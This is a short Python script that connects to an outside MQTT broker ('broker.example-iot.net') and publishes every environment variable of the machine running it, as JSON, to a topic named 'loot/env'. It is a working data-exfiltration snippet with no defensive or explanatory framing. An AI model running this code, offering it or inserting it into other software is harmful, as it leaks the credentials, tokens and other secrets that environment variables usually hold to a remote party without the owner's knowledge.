import os, json
import paho.mqtt.client as mqtt
c = mqtt.Client()
c.connect("broker.example-iot.net", 1883)
c.publish("loot/env", json.dumps(dict(os.environ)))
